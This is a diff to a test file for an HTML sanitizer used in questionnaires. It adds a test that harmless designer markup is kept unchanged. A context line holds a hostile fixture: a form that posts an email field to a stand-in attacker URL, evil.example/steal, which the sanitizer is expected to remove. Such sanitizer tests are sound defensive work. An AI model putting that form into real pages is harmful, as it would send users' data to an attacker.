@@ -10,6 +10,11 @@ describe('HTML in a questionnaire', () => {
     );
   });
 
+  it("keeps the designer's own markup as written when there is nothing to remove", () => {
+    const html = '<p><h4>Thank you.</h4></p><p>Your name is: <b>{name}</b></p>';
+    expect(sanitizeHtmlText(html)).toBe(html);
+  });
+
   it('removes forms, scripts, styles, frames, images from other sites and script links', () => {
     const html = [
       '<form action="https://evil.example/steal"><input name="email"><button>Send</button></form>',
